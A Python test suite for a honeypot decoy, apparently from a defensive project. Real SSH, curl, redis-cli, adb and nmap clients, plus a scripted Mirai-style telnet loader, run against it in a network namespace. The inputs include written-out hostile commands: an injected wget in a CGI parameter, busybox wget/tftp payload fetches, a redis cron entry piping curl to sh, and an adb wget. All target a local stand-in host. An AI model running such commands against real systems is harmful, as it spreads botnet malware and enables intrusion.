#!/usr/bin/env python3
"""`noroshi decoy` met by real clients (OpenSSH, curl, redis-cli, adb, nmap) and by a loader as a Mirai has it, in a network namespace: what is
recorded, what is kept and how, and what it does not do. TAP.

Names, passwords and addresses are made up. Nothing that is typed works, and nothing is fetched: a listener stands where the commands point to.

usage: test_decoy.py NETNS_RUN [--inside]
"""
import json
import os
import pwd
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import traceback
from pathlib import Path

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../center"))
from center import Centre  # noqa: E402

NOROSHI = os.environ["NOROSHI"]
HERE, BAIT = "198.18.0.1", "198.18.0.3"
PORTS = {"tcp": 7777, "telnet": 23, "ssh": 22, "http": 80, "smb": 445, "redis": 6379, "adb": 5555, "udp": 5060, "dns": 53, "ntp": 123, "ssdp": 1900}
PASSWORDS = ["sword-of-fish", "pass+word 1", "k33p-0ut", "xc-ninety", "vizxv-two"]


def account():
    return "nobody" if os.geteuid() == 0 else pwd.getpwuid(os.geteuid()).pw_name


def configuration(folder, decoy="", services=None, approved='approved_by = "the council"; approved_until = "2199-12-31";', user=None, networks='"198.18.0.1/32"'):
    listed = services if services is not None else ", ".join(
        '{ service = "%s"; address = "%s"; port = %d; %s }' % (name, HERE, port, "answers = true;" if name in ("dns", "ntp", "ssdp") else "")
        for name, port in PORTS.items())
    path = folder / "decoy.conf"
    path.write_text('decoy = { %s networks = [ %s ]; user = "%s"; folder = "kept"; key = "public"; %s };\nservices = ( %s );\n'
                    % (approved, networks, account() if user is None else user, decoy, listed))
    return path


def noroshi(*words, wanted=0, text=True):
    done = subprocess.run([NOROSHI, *map(str, words)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=text, timeout=120, stdin=subprocess.DEVNULL)
    assert done.returncode == wanted, (words, done)
    return done


def wait_for(condition, what, seconds=120):
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, what
        time.sleep(0.02)


class Decoy:
    """A running one, with a fresh folder."""

    def __init__(self, folder, starter=None, **more):
        self.folder, self.kept = folder, folder / "kept"
        shutil.rmtree(self.kept, ignore_errors=True)
        self.kept.mkdir()
        if not (folder / "private").exists():
            (folder / "public").write_text(noroshi("decoy", "key", "--key", folder / "private").stdout)
        if os.geteuid() == 0:
            os.chown(self.kept, pwd.getpwnam("nobody").pw_uid, -1)
        self.log = open(folder / "log", "w+")
        self.process = subprocess.Popen([NOROSHI, "decoy", "--config", str(configuration(folder, **more))], stderr=self.log, stdin=subprocess.DEVNULL,
                                        user=starter)
        wait_for(lambda: "the decoy answers" in self.said() or self.process.poll() is not None, "the decoy to begin")
        assert self.process.poll() is None, self.said()

    def said(self):
        return (self.folder / "log").read_text()

    def front(self):
        return int(Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()[0])

    def lines(self, service=None):
        texts = [path.read_bytes() for path in sorted(self.kept.glob("sessions-*.json"))]
        read = [json.loads(line) for text in texts for line in text.split(b"\n")[:-1]]  # the last may be under way
        return [line for line in read if service in (None, line["decoy"]["service"])]

    def wait_lines(self, service, count=1):
        wait_for(lambda: len(self.lines(service)) >= count, f"{count} sessions of {service}: {self.lines()}")
        return self.lines(service)

    def end(self, wanted=0):
        if self.process.poll() is None:
            self.process.terminate()
        code = self.process.wait(60)
        assert code == wanted, (code, self.said())


def ask(port, *pieces, wait=b""):
    """A session: each piece after the other side said something."""
    said = b""
    with socket.create_connection((HERE, port), 60) as connection:
        for piece in pieces:
            connection.sendall(piece)
            said += connection.recv(65536)
        while wait not in said:
            more = connection.recv(65536)
            assert more, said
            said += more
    return said


def credentials(lines):
    return [each["name"] for line in lines for each in line["decoy"].get("credentials", [])]


# ── what it refuses to begin with ─

def test_nothing_answers_without_approval(folder):
    (folder / "kept").mkdir(exist_ok=True)
    (folder / "public").write_text(noroshi("decoy", "key", "--key", folder / "private").stdout)
    one = '{ service = "tcp"; address = "198.18.0.1"; port = 7777; }'
    noroshi("decoy", wanted=2)
    for more, words in (({"approved": ""}, "who signed"), ({"approved": 'approved_by = "x"; approved_until = "2020-01-01";', "services": one}, "without approval"),
                        ({"services": one.replace("198.18.0.1", "198.18.0.2")}, "nobody signed for it"),
                        ({"services": one.replace("198.18.0.1", "0.0.0.0")}, "none of decoy.networks"),
                        ({"services": one.replace("198.18.0.1", "::")}, "no single address"), ({"services": ""}, "no services"),
                        ({"services": one.replace("tcp", "ftp")}, "no service"), ({"services": one.replace("port", "answers = true; port")}, "answers is for"),
                        ({"user": "root"}, "must not be root") if os.geteuid() == 0 else ({"approved": ""}, "who signed"),
                        ({"user": ""}, "set decoy.user") if os.geteuid() == 0 else ({"approved": ""}, "who signed")):
        said = noroshi("decoy", "--config", configuration(folder, **more), wanted=2).stderr
        assert words in said, (words, said)
    assert "good" in noroshi("decoy", "--config", configuration(folder), "--check").stdout


# ── clients ─

def client_ssh(folder):
    helper = folder / "ask"
    helper.write_text(f"#!/bin/sh\necho '{PASSWORDS[0]}'\n")
    helper.chmod(0o755)
    done = subprocess.run(["ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
                           "-o", "NumberOfPasswordPrompts=2", "harbour@" + HERE, "true"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True, timeout=60, env={**os.environ, "SSH_ASKPASS": str(helper), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"})
    assert done.returncode == 255 and "Permission denied (password)" in done.stderr, done


def client_curl():
    for words in (["-u", f"porter:{PASSWORDS[2]}", f"http://{HERE}/setup.cgi?cmd=;wget+http://{BAIT}:8081/h.sh"],
                  ["-d", "username=crane&password=pass%2Bword%201", f"http://{HERE}/login.cgi"], ["--data-binary", "@/proc/self/status", f"http://{HERE}/upload"]):
        done = subprocess.run(["curl", "-s", "-m", "60", "-w", "%{http_code}", *words], stdout=subprocess.PIPE, text=True, timeout=90)
        assert done.stdout == "login needed\n401", done


def client_loader():
    """As Mirai's scanner and loader talk: a list, then commands in an order that its shells know."""
    said = ask(23, b"", b"root\r\n", PASSWORDS[3].encode() + b"\r\n", b"admin\r\n", PASSWORDS[4].encode() + b"\r\n", b"enable\r\n", b"system\r\n", b"shell\r\n", b"sh\r\n",
               b"/bin/busybox DECOY\r\n", b"cd /tmp; /bin/busybox wget http://%s:8081/bins/m.mips -O - > m; /bin/busybox tftp -g -l m -r bins/m.mips %s\r\n" % (BAIT.encode(), BAIT.encode()), wait=b"DECOY: applet not found")
    assert b"Login incorrect" in said, said


def client_redis():
    for words, answer in ((["ping"], "PONG"), (["--no-auth-warning", "-a", PASSWORDS[0], "set", "x", f"* * * * * root curl -fsSL http://{BAIT}:8081/i.sh?and-more-than-64-bytes | sh"], "OK"),
                          (["config", "set", "dir", "/var/spool/cron"], "OK"), (["get", "x"], "")):
        done = subprocess.run(["redis-cli", "-h", HERE, *words], stdout=subprocess.PIPE, text=True, timeout=60)
        assert done.stdout.strip() == answer, done


def client_adb(folder):
    environment = {**os.environ, "HOME": str(folder), "ANDROID_ADB_SERVER_PORT": "5039"}

    def adb(*words):
        return subprocess.run(["adb", *words], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=60, env=environment, stdin=subprocess.DEVNULL)
    try:
        assert "connected to" in adb("connect", HERE).stdout
        done = adb("-s", HERE + ":5555", "shell", f"cd /data/local/tmp; busybox wget http://{BAIT}:8081/a.apk")
        assert done.returncode == 0 and done.stdout == "", done
        assert adb("-s", HERE + ":5555", "push", str(folder / "public"), "/data/local/tmp/").returncode != 0
    finally:
        adb("kill-server")


def client_nmap():
    done = subprocess.run(["nmap", "-n", "-Pn", "-sT", "-p", "445", "--script", "smb-protocols,smb2-time", HERE], stdout=subprocess.PIPE, text=True, timeout=240)
    assert "302" in done.stdout and "NT LM 0.12" in done.stdout and "311" not in done.stdout, done.stdout
    done = subprocess.run(["nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22", HERE], stdout=subprocess.PIPE, text=True, timeout=240)
    assert "OpenSSH 9.2p1" in done.stdout, done.stdout


def client_datagrams():
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7harbour\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.settimeout(60)
        for port, bytes_, least in ((53, question, 1), (53, question + bytes(300), 1), (123, b"\x23" + bytes(47), 48), (1900, b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", 1)):
            own.sendto(bytes_, (HERE, port))
            answer, source = own.recvfrom(65536)
            assert least <= len(answer) <= len(bytes_) and source == (HERE, port), (bytes_, answer)
        for port, bytes_ in ((5060, b"OPTIONS sip:1@x SIP/2.0\r\n\r\n"), (123, b"\x17\0\3\x2a" + bytes(44)), (123, b"\x23" + bytes(20)), (1900, b"M-SEARCH *"), (53, b"\x12\x34\x81\0\0\1" + bytes(30))):
            own.sendto(bytes_, (HERE, port))
        own.sendto(question, (HERE, 53))  # what is answered after them shows that they were seen
        assert own.recvfrom(65536)[0][:2] == b"\x12\x34"


def test_real_clients(folder):
    """All of them at one decoy; what it recorded, what it kept, and that it fetched nothing."""
    bait = socket.create_server((BAIT, 8081))
    bait.setblocking(False)
    decoy = Decoy(folder, decoy="per_minute = 1000;")
    sample = b"\x7fELF no program, but over sixty-four bytes of what a stranger could bring; wget http://%s:8081/t" % BAIT.encode()
    try:
        with socket.create_connection((HERE, 7777)) as connection:
            connection.sendall(sample)
        client_ssh(folder)
        client_curl()
        client_loader()
        client_redis()
        client_adb(folder)
        client_nmap()
        client_datagrams()
        check_lines(decoy)
        check_processes(decoy)
        for path in ("sessions", "passwords"):
            (folder / (path + ".json")).write_text("".join(each.read_text() for each in sorted(decoy.kept.glob(path + "-*"))))  # two about midnight
        check_secrets(folder, decoy, sample)
    finally:
        decoy.end()
    check_others(folder)
    try:
        bait.accept()
        raise AssertionError("somebody fetched what the commands name")
    except BlockingIOError:
        bait.close()


def check_lines(decoy):
    decoy.wait_lines("tcp"), decoy.wait_lines("dns", 4), decoy.wait_lines("ntp", 3), decoy.wait_lines("ssdp", 2), decoy.wait_lines("adb"), decoy.wait_lines("smb", 3)
    (ssh,) = [line for line in decoy.wait_lines("ssh") if "credentials" in line["decoy"]]
    assert credentials([ssh]) == ["harbour"] * 2 and ssh["decoy"]["client"].startswith("SSH-2.0-OpenSSH") and len(ssh["decoy"]["hassh"]) == 32, ssh
    basic, form, upload = decoy.wait_lines("http", 3)
    assert basic["http"]["http_method"] == "GET" and credentials([basic]) == ["porter"] and basic["decoy"]["urls"] == [f"http://{BAIT}:8081/h.sh"], basic
    assert form["http"]["url"] == "/login.cgi" and credentials([form]) == ["crane"] and "payload_sha256" not in form["decoy"], form
    assert upload["decoy"]["sample"] and upload["decoy"]["payload_size"] > 64, upload
    (loader,) = [line for line in decoy.wait_lines("telnet") if "credentials" in line["decoy"]]
    assert credentials([loader]) == ["root", "admin"] and loader["alert"]["signature"] == "Decoy: download", loader
    assert loader["decoy"]["commands"][:5] == ["enable", "system", "shell", "sh", "/bin/busybox DECOY"], loader
    assert loader["decoy"]["urls"] == [f"http://{BAIT}:8081/bins/m.mips", f"tftp://{BAIT}/bins/m.mips"], loader
    redis = decoy.wait_lines("redis", 4)
    assert redis[1]["decoy"]["urls"] == [f"http://{BAIT}:8081/i.sh?and-more-than-64-bytes"] and redis[1]["decoy"]["commands"][0] == "AUTH", redis
    (adb,) = [line for line in decoy.lines("adb") if "commands" in line["decoy"]]
    assert adb["decoy"]["urls"] == [f"http://{BAIT}:8081/a.apk"] and "sync:" in adb["decoy"]["commands"], adb
    assert redis[1]["decoy"]["credentials"][0]["mark"] == ssh["decoy"]["credentials"][0]["mark"] != loader["decoy"]["credentials"][0]["mark"]
    for line in decoy.lines():
        assert line["src_ip"] == HERE and "dest_ip" not in line and line["dest_port"] == PORTS[line["decoy"]["service"]], line
        if line["proto"] == "UDP":
            assert line["decoy"]["sent"] <= line["decoy"]["received"], line


def check_processes(decoy):
    front = decoy.front()
    for process in (decoy.process.pid, front):
        status = dict(line.split(":\t", 1) for line in Path(f"/proc/{process}/status").read_text().splitlines() if ":\t" in line)
        assert status["Seccomp"] == "2" and status["NoNewPrivs"] == "1" and int(status["CapEff"], 16) == 0 and "0" not in status["Uid"].split(), status
    held = {name: os.readlink(f"/proc/{front}/fd/{name}") for name in os.listdir(f"/proc/{front}/fd")}
    assert all(what.startswith("socket:") or what in ("/dev/null", "anon_inode:[eventpoll]") for what in held.values()), held


def check_secrets(folder, decoy, sample):
    everything = b"".join(path.read_bytes() for path in decoy.kept.iterdir()) + decoy.said().encode()
    for password in PASSWORDS + ["pass%2Bword%201"]:
        assert password.encode() not in everything, password
    opened = [json.loads(line)["password"] for line in noroshi("decoy", "open", "--key", folder / "private", folder / "passwords.json").stdout.splitlines()]
    assert set(opened) == set(PASSWORDS), opened
    noroshi("decoy", "key", "--key", folder / "another")
    assert "another key" in noroshi("decoy", "open", "--key", folder / "another", folder / "passwords.json", wanted=2).stderr
    (line,) = decoy.lines("tcp")
    (path,) = decoy.kept.glob("sample-*-" + line["decoy"]["payload_sha256"])
    assert b"ELF" not in path.read_bytes()
    assert noroshi("decoy", "open", "--key", folder / "private", path, text=False).stdout == sample
    for path in decoy.kept.iterdir():
        assert path.stat().st_mode & 0o777 == (0o640 if path.name.startswith("sessions") else 0o600), path


def check_others(folder):
    """The rest of the program takes the lines: as alerts, through the capture policy, as indicators."""
    sessions = folder / "sessions.json"
    count = len(sessions.read_text().splitlines())
    assert noroshi("capture", "--unknown", sessions).stdout.strip() == "", "a field that no table knows"
    assert f"{count} lines: {count} alerts, 0 skipped, 0 malformed" in noroshi("convert", sessions).stderr
    left = noroshi("capture", sessions).stdout
    assert "busybox" not in left and "harbour" in left, left
    listed = folder / "indicators.csv"
    listed.write_text(noroshi("decoy", "indicators", sessions).stdout)
    rows = listed.read_text().splitlines()
    assert len(rows) == len(set(rows)) and f'url,"http://{BAIT}:8081/bins/m.mips",alert' in rows and any(row.startswith("sha256,") for row in rows), rows
    noroshi("indicators", "check", listed)
    bundle = json.loads(noroshi("intel", "convert", "--to", "stix", listed).stdout)
    assert any("m.mips" in each.get("pattern", "") for each in bundle["objects"]), bundle


# ── limits ─

def test_a_policy_forbids_accounts_and_payloads(folder):
    (folder / "agent").mkdir()
    (folder / "agent/policy").write_text("account=not payload=not member_days=7\n")
    for path in (folder, folder / "agent", folder / "agent/policy"):
        path.chmod(0o755)
    decoy = Decoy(folder, decoy='policy = "agent/policy";')
    try:
        ask(23, b"", b"root\r\n", b"secret-one\r\n")
        with socket.create_connection((HERE, 7777)) as connection:
            connection.sendall(b"x" * 100)
        (line,), (tcp,) = decoy.wait_lines("telnet"), decoy.wait_lines("tcp")
        assert "credentials" not in line["decoy"] and tcp["decoy"]["sample"] is False, (line, tcp)
        assert not list(decoy.kept.glob("passwords-*")) and not list(decoy.kept.glob("sample-*"))
    finally:
        decoy.end()


def test_sessions_end_by_bytes_time_and_with_the_decoy(folder):
    decoy = Decoy(folder, decoy='session_time = "2 s"; session_bytes = "2 KiB"; per_minute = 6;')
    try:
        minute = time.monotonic() // 60  # of the decoy's clock
        slow = socket.create_connection((HERE, 80))
        slow.sendall(b"GET / HTTP/1.1\r\nX: ")  # and never the rest
        with socket.create_connection((HERE, 7777)) as large:
            try:
                for _ in range(40):
                    large.sendall(b"y" * 1000)
            except ConnectionError:
                pass
            wait_for(lambda: decoy.lines("tcp"), "the large one")
        (line,) = decoy.lines("tcp")
        assert line["decoy"]["ended"] == "full" and line["decoy"]["received"] == 2048, line
        (line,) = decoy.wait_lines("http")
        assert line["decoy"]["ended"] == "late" and line["decoy"]["seconds"] < 60, line
        slow.close()
        others = [socket.create_connection((HERE, 23)) for _ in range(10)]  # four of them have begun before the limit
        greeted = sum(1 for each in others if greets(each))
        assert greeted == 4 if time.monotonic() // 60 == minute else 4 <= greeted <= 10, greeted  # else the minute ended between
        decoy.end()
        assert {line["decoy"]["ended"] for line in decoy.lines("telnet")} <= {"stopped", "late"} and len(decoy.lines("telnet")) == greeted, decoy.lines("telnet")
    finally:
        decoy.end()


def greets(connection, seconds=60):
    connection.settimeout(seconds)
    try:
        return connection.recv(100) != b""
    except (ConnectionError, TimeoutError):
        return False


def test_ten_thousand_sessions_at_once(folder):
    count, more = 10000, 200
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < count + 1000:
        return f"only {hard} descriptors here"
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    decoy = Decoy(folder, decoy=f'sessions = {count}; per_minute = 100000; session_time = "1 h"; memory = "256 MiB";')
    held = []
    try:
        for _ in range(count // 100):
            held += [socket.create_connection((HERE, 23)) for _ in range(100)]
            assert all(map(greets, held[-100:])), "one of 10,000 was not greeted"
        refused = sum(1 for _ in range(more) if not greets(socket.create_connection((HERE, 23))))
        assert refused == more, refused
        for number, each in enumerate(held):
            each.sendall(b"r%d\r\n" % number if number % 3 else os.urandom(200))
        memory = int(next(line.split()[1] for line in Path(f"/proc/{decoy.front()}/status").read_text().splitlines() if line.startswith("VmHWM")))
        assert memory < 256 << 10, f"{memory} KiB"
        print(f"# {count} sessions of telnet: {memory} KiB")
        for each in held:
            each.close()
        wait_for(lambda: greets(socket.create_connection((HERE, 23))), "room for one more")
        wait_for(lambda: len(decoy.lines("telnet")) >= count, "all sessions to be recorded")
    finally:
        for each in held:
            each.close()
        decoy.end()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    assert f'"refused":{more}' in decoy.said() or sum(line["decoy"].get("refused", 0) for line in decoy.lines()) >= more, decoy.said()


def test_it_ends_when_either_process_does(folder):
    decoy = Decoy(folder)
    os.kill(decoy.front(), signal.SIGKILL)
    decoy.end(wanted=2)
    assert "was killed" in decoy.said()
    decoy = Decoy(folder)
    front = decoy.front()
    decoy.process.kill()
    decoy.process.wait(30)

    def ended():
        try:
            return "State:\tZ" in Path(f"/proc/{front}/status").read_text()
        except OSError:
            return True
    wait_for(ended, "the front to end with the writer")


def test_a_machine_without_descriptors_does_not_keep_it_busy(folder):
    starter = "nobody" if os.geteuid() == 0 else None
    decoy = Decoy(folder, starter=starter, services='{ service = "telnet"; address = "%s"; port = 2323; }' % HERE, user="")
    front, held = decoy.front(), []

    def allow(descriptors):
        subprocess.run(["prlimit", f"--nofile={descriptors}:", "--pid", str(front)], check=True, user=starter)

    try:
        allow(40)
        held = [socket.create_connection((HERE, 2323), 20) for _ in range(60)]
        assert all(map(greets, held[:10])) and not greets(held[-1], 2)
        ticks = [sum(map(int, Path(f"/proc/{front}/stat").read_text().rsplit(")", 1)[1].split()[11:13])) for _ in range(2) if not time.sleep(2 * _)]
        assert ticks[1] - ticks[0] < 0.5 * os.sysconf("SC_CLK_TCK"), f"{ticks} of CPU in two seconds"
        allow(200)
        assert greets(held[-1]), "it does not go on when there are descriptors again"
    finally:
        for each in held:
            each.close()
        decoy.end()
    assert sum(line["decoy"].get("refused", 0) for line in decoy.lines()) > 0 or '"refused":' in decoy.said(), decoy.said()


def test_it_runs_for_an_account_that_is_not_root(folder):
    high = '{ service = "telnet"; address = "%s"; port = 2323; }' % HERE
    starter = "nobody" if os.geteuid() == 0 else None
    decoy = Decoy(folder, starter=starter, services=high, user="")
    try:
        assert Path(f"/proc/{decoy.front()}").stat().st_uid != 0
        ask(2323, b"", b"root\r\n", b"%s\r\n" % PASSWORDS[0].encode())
        assert credentials(decoy.wait_lines("telnet")) == ["root"]
    finally:
        decoy.end()


def test_the_owner_of_a_source_is_told_by_a_centre(folder):
    source, port = "203.0.113.9", 2323
    subprocess.run(["ip", "address", "add", source + "/32", "dev", "lo"], check=True)
    decoy = Decoy(folder, services='{ service = "telnet"; address = "%s"; port = %d; }' % (HERE, port))
    try:
        with Centre(("hill", "kaede")) as centre:
            administrator = centre.tokens["administrator"]
            assert centre.json("POST", "/v1/organisations/2/space", administrator, {"prefix": "203.0.113.0/24", "from": "2020-01-01T00:00:00Z"})[0] == 201
            assert centre.json("PATCH", "/v1/sensors/1", administrator, {"telescope": True})[0] == 200
            with open(os.open(folder / "token", os.O_WRONLY | os.O_CREAT, 0o600), "w") as to:
                to.write(centre.tokens["hill"] + "\n")
            (folder / "agent.conf").write_text('agent = { server = "%s"; token_file = "token"; state = "agent"; files = ( "%s/sessions-*.json" ); format = "eve"; '
                                               'scan_every = "200 ms"; linger = "200 ms"; };' % (centre.address, decoy.kept))
            with open(folder / "agent.log", "wb") as log:
                agent = subprocess.Popen([NOROSHI, "agent", "--config", folder / "agent.conf"], stdout=log, stderr=log)
            try:
                with socket.create_connection((HERE, port), 20, (source, 0)) as connection:
                    connection.sendall(b"root\r\n")
                (line,) = decoy.wait_lines("telnet")
                assert line["src_ip"] == source, line

                def told(who):
                    status, answer = centre.json("GET", "/v1/bulletins", centre.tokens["member-" + who], headers={"Accept-Language": "en"})
                    return status == 200 and [each for each in answer["bulletins"] if each["kind"] == "darknet"]
                wait_for(lambda: told("kaede") or time.sleep(0.3), "the owner's bulletin: " + (folder / "agent.log").read_text())
                assert source in json.dumps(told("kaede")) and not told("hill")
                (seen,) = centre.json("GET", "/v1/appearances", centre.tokens["member-kaede"])[1]["appearances"]
                assert seen["address"] == source, seen
            finally:
                agent.terminate()
                agent.wait(60)
    finally:
        decoy.end()


def inside():
    subprocess.run(["ip", "address", "add", BAIT + "/15", "dev", "pair0"], check=True)
    tests = [(name, test) for name, test in globals().items() if name.startswith("test_")]
    print(f"1..{len(tests)}")
    failed = False
    for number, (name, test) in enumerate(tests, 1):
        with tempfile.TemporaryDirectory(prefix="noroshi-decoy-") as folder:
            os.chmod(folder, 0o755)
            begun = time.monotonic()
            try:
                skipped = test(Path(folder))
                print(f"ok {number} - {name[5:].replace('_', ' ')}" + (f" # SKIP {skipped}" if skipped else f" ({time.monotonic() - begun:.1f} s)"))
            except Exception:  # noqa: BLE001 - told, and the others go on
                failed = True
                print(f"not ok {number} - {name[5:].replace('_', ' ')}\n# " + traceback.format_exc().replace("\n", "\n# "))
        sys.stdout.flush()
    return int(failed)


def main():
    if "--inside" in sys.argv:
        return inside()
    os.environ["PATH"] += ":/usr/sbin:/sbin"
    missing = [tool for tool in ("ssh", "curl", "redis-cli", "adb", "nmap", "ip") if not shutil.which(tool)]
    if missing:
        print("1..0 # SKIP", *missing, "missing")
        return 0
    code = subprocess.run([sys.argv[1], "--seconds", "600", sys.executable, __file__, sys.argv[1], "--inside"], timeout=660).returncode
    if code == 77:
        print("1..0 # SKIP no namespaces here")
    return 0 if code == 77 else code


if __name__ == "__main__":
    sys.exit(main())
